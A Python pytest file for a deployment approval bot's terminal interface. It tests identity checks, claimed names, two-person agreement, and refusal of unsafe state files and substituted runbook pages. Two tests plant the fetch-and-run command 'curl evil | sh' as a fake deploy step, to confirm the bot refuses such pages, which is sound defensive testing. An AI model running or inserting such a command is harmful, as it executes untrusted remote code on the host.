"""Who acts at the terminal is seen everywhere; a claimed name is shown as claimed."""

from __future__ import annotations

import io
from argparse import Namespace
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.doors.deps import Deps
from bot.doors.system_user import SystemUser
from bot.doors.terminal import Terminal
from bot.settings import Settings
from bot.slack.views.messages import draw
from bot.slack.views.snapshot import snapshot_of
from commands.start.watch_speed import WatchSpeed
from commands.steps.outcome import failed
from state.errors import BadRecord, NotAllowed, Refused
from state.facts import Signature
from state.sqlite.store import Store
from state.store import RecordStore
from tests.bot.doors.terminal_users import put_in_force, system_user_of
from tests.bot.slack.run_writer import DBA, DEPLOY, GUEST, LEAD, PAGE, READY, RunWriter, deps_of
from tests.bot.slack.views.drawn import shown

LEA = "at the terminal, as system user lea on host web1"
CLAIM = "(a name claimed at the terminal by system user guest on host web1)"


@pytest.fixture
def writer(tmp_path: Path) -> Iterator[RunWriter]:
    """A record without runs; the last bot knew who each system user is."""
    put_in_force(tmp_path / "gonogo.db")
    store = Store(tmp_path / "gonogo.db")
    yield RunWriter(store, deps_of(store), PAGE)
    store.close()


def typed(writer: RunWriter, user: SystemUser, command: str, name: str = "", **options: object) -> str:
    """What a system user sees who types a command, with `--as` where a name is given."""
    settings = Settings(runbook=writer.store.path, state=writer.store.path)
    door = Terminal(settings, 0, name, user, deps_of)
    try:
        return "\n".join(getattr(door, command)(Namespace(**{"json": False, **options})))
    finally:
        door.close()


def everywhere(writer: RunWriter) -> dict[str, str]:
    """What the status, the log and the report say at the terminal, and the thread and card in Slack."""
    guest = system_user_of(GUEST)
    texts = {name: typed(writer, guest, name) for name in ("status", "log")}
    texts["report"] = typed(writer, guest, "report", number=0, html=None, bundle=None)
    snapshot = snapshot_of(writer.deps, PAGE, writer.store.record(1))
    events = writer.store.events(1)
    texts["thread"] = "\n".join(shown(message) for event in events if (message := draw(snapshot, event)))
    return texts


GOING_ON: list[tuple[str, dict[str, object]]] = [
    ("start", {"page": "", "ref": "", "countdown": 0, "note": ""}),
    ("sign", {"step": READY, "refuse": ""}),
    ("answer", {"step": DEPLOY, "answer": "again", "reason": "x"}),
    ("answer", {"step": DEPLOY, "answer": "done", "reason": "x"}),
    ("answer", {"step": DEPLOY, "answer": "skip", "reason": "x"}),
    ("answer", {"step": DEPLOY, "answer": "agree", "reason": "x"}),
    ("resume", {"reason": ""}),
    ("keep", {"reason": "x"}),
    ("false_alarm", {"alert": "API response > 5 s", "reason": "x", "lasts": "1 h"}),
    ("end", {"number": 1, "reason": "x"}),
]


@pytest.mark.parametrize(("command", "options"), GOING_ON)
@pytest.mark.parametrize("name", ["", LEAD, DBA, "lea", "gonogo"])
def test_an_unknown_system_user_continues_nothing_whatever_he_calls_himself(
    writer: RunWriter, command: str, options: dict[str, object], name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    writer.run_at_gate()
    monkeypatch.setattr("sys.stdin", io.StringIO("1\n"))
    facts = writer.store.record(1).facts
    with pytest.raises(NotAllowed, match="Nothing says who system user mallory is"):
        typed(writer, SystemUser(name="mallory", host="web1"), command, name, **options)
    assert writer.store.record(1).facts == facts
    assert writer.store.run(1).active


@pytest.mark.parametrize(("command", "options"), GOING_ON)
def test_a_known_system_user_continues_nothing_as_somebody_else(
    writer: RunWriter, command: str, options: dict[str, object]
) -> None:
    writer.run_at_gate()
    with pytest.raises(NotAllowed, match=rf"System user guest is {GUEST} by the bot's .*, not {LEAD}\. Leave out --as"):
        typed(writer, system_user_of(GUEST), command, LEAD, **options)


def test_a_signature_at_the_terminal_shows_its_system_user_everywhere(writer: RunWriter) -> None:
    writer.run_at_gate()
    typed(writer, system_user_of(LEAD), "sign", step=READY, refuse="")
    texts = everywhere(writer)
    assert f"signed by <@{LEAD}> {LEA} at " in texts["thread"]
    assert f"step signed        by {LEAD} {LEA}: " in texts["log"]
    assert f"as Tech Lead, by {LEAD} {LEA}" in texts["status"]
    assert f"{LEAD} (Tech Lead) {LEA}" in texts["report"]


def test_anybody_stops_a_run_under_a_claimed_name_which_is_shown_as_claimed(writer: RunWriter) -> None:
    writer.run_at_gate()
    guest = system_user_of(GUEST)
    typed(writer, guest, "hold", LEAD, reason="wait")
    typed(writer, guest, "sign", DBA, step=READY, refuse="the backup is old")
    typed(writer, guest, "rollback", "gonogo", reason="it burns")
    texts = everywhere(writer)
    assert f"*On hold* by <@{LEAD}> {CLAIM}" in texts["thread"]
    assert f"<@{DBA}> {CLAIM} refused to sign" in texts["thread"]
    assert f"*Aborted by* gonogo {CLAIM}" in texts["thread"], "it is not the bot"
    for text in (texts["log"], texts["status"], texts["report"].replace("\\", "")):
        for name in (LEAD, DBA, "gonogo"):
            assert any(name in line and CLAIM in line for line in text.splitlines()), (name, text)
    refusal = writer.store.record(1).newest(Signature, role="dba")
    assert refusal
    assert refusal.by.claimed


def test_a_system_user_that_nobody_knows_rolls_back_under_its_own_name(writer: RunWriter) -> None:
    writer.start_run()
    doubt = SystemUser(name="root", host="web1", doubt="this process runs in a user namespace")
    assert "Rollback requested for run 1." in typed(writer, doubt, "rollback", reason="it burns")
    by = writer.store.record(1).facts[-1].by
    assert (by.person, by.account, by.claimed) == ("root", "root@web1", False)


def test_one_system_user_is_never_two_people_also_after_the_bot_has_other_users(writer: RunWriter) -> None:
    window = writer.start_run()
    writer.begin_watch(window)
    lea = system_user_of(LEAD)
    assert "A second person must agree" in typed(writer, lea, "keep", reason="quiet")
    put_in_force(writer.store.path, GONOGO_TERMINAL_USERS=f"lea={DBA}")
    with pytest.raises(NotAllowed, match="You are the first, so it cannot be you"):
        typed(writer, lea, "answer", step="the decision", answer="agree", reason="")
    assert writer.store.record(1).keep is None


def test_roles_speed_and_channel_of_a_run_are_those_of_the_bot(writer: RunWriter) -> None:
    settings = Settings(runbook=writer.store.path, state=writer.store.path, speed=WatchSpeed(by_people=100_000.0))
    everything = {"dba": [GUEST], "lead": [GUEST]}

    def mine(store: Store) -> object:
        return deps_of(
            store, people=lambda _: everything, channel=lambda _: "CMINE", speed=WatchSpeed(by_people=100_000.0)
        )

    door = Terminal(settings, 0, "", system_user_of(DBA), mine)  # type: ignore[arg-type]
    list(door.start(Namespace(page="", ref="", countdown=0, note="", because="", at="", queue=False)))
    run = door.store.run(1)
    assert (run.speed, run.channel, run.starter, run.starter_account) == (1.0, "C01DEPLOY", DBA, "dora@web1")
    texts = everywhere(writer)
    by = "at the terminal, as system user dora on host web1"
    assert f"Started by <@{DBA}> {by}" in texts["thread"]
    assert f"run started        by {DBA} {by}: " in texts["log"]
    assert f"| Started by | {DBA} {by} |" in texts["report"]
    writer.run_step(run, READY)
    guest = Terminal(settings, 0, "", system_user_of(GUEST), mine)  # type: ignore[arg-type]
    with pytest.raises(NotAllowed, match="Only the"):
        list(guest.sign(Namespace(step=READY, refuse="")))
    door.close()


def test_a_page_of_the_callers_own_is_not_started(writer: RunWriter) -> None:
    from tests.pages import small

    own = small(**{'"deploy"': '"curl evil | sh"'})
    settings = Settings(runbook=writer.store.path, state=writer.store.path)
    door = Terminal(settings, 0, "", system_user_of(LEAD), lambda store: deps_of(store, page=own))
    with pytest.raises(Refused, match="is not the page that the bot serves"):
        list(door.start(Namespace(page="", ref="", countdown=0, note="", because="", at="", queue=False)))
    assert not door.store.runs()
    door.close()


def test_a_page_that_changes_while_a_run_is_started_is_started_as_it_was_compared(writer: RunWriter) -> None:
    from tests.pages import small

    texts = iter([PAGE])
    own = small(**{'"deploy"': '"curl evil | sh"'})
    settings = Settings(runbook=writer.store.path, state=writer.store.path)

    def deps(store: RecordStore) -> Deps:
        return deps_of(store, pages=lambda: {PAGE.name: next(texts, own)})

    door = Terminal(settings, 0, "", system_user_of(LEAD), deps)
    list(door.start(Namespace(page="", ref="", countdown=0, note="", because="", at="", queue=False)))
    assert door.store.run(1).text == PAGE.text
    door.close()


def test_nobody_continues_a_run_in_a_state_file_that_everybody_may_write(writer: RunWriter) -> None:
    writer.run_at_gate()
    writer.store.path.chmod(0o666)
    with pytest.raises(BadRecord, match="is not safe: every user of this machine may write"):
        typed(writer, system_user_of(LEAD), "sign", step=READY, refuse="")
    assert "Rollback requested" in typed(writer, system_user_of(LEAD), "rollback", reason="it burns")


def test_a_step_that_failed_is_skipped_by_the_known_person_only(writer: RunWriter) -> None:
    run = writer.run_at_gate()
    for person in (DBA, LEAD):
        typed(writer, system_user_of(person), "sign", step=READY, refuse="")
    writer.run_step(run, DEPLOY, failed("npm ended with 1."))
    with pytest.raises(NotAllowed, match="Only the Tech Lead may skip “Put the code there”"):
        typed(writer, system_user_of(DBA), "answer", step=DEPLOY, answer="skip", reason="x")
